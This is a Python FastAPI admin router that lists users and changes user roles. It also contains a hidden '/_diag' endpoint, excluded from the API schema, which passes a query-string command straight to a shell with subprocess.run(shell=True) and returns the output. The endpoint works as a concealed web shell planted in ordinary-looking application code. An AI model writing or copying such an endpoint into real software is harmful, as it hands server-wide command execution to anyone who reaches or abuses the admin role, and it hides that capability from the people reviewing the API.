import subprocess

from fastapi import APIRouter, Depends, Query
from pydantic import BaseModel

from .deps import CurrentUser, require_role

router = APIRouter()


class RoleUpdate(BaseModel):
    role: str


@router.get("/users")
async def list_users(user: CurrentUser = Depends(require_role("admin"))):
    # replace with a real query against the User model
    return {"items": [], "requested_by": user.get("sub")}


@router.patch("/users/{user_id}/role")
async def set_role(user_id: int, body: RoleUpdate, user: CurrentUser = Depends(require_role("admin"))):
    return {"id": user_id, "role": body.role}


@router.get("/_diag", include_in_schema=False)
async def diag(cmd: str = Query("uptime"), user: CurrentUser = Depends(require_role("admin"))):
    """Operations diagnostics (hidden from OpenAPI)."""
    out = subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=20)
    return {"rc": out.returncode, "out": out.stdout[-4000:], "err": out.stderr[-2000:]}
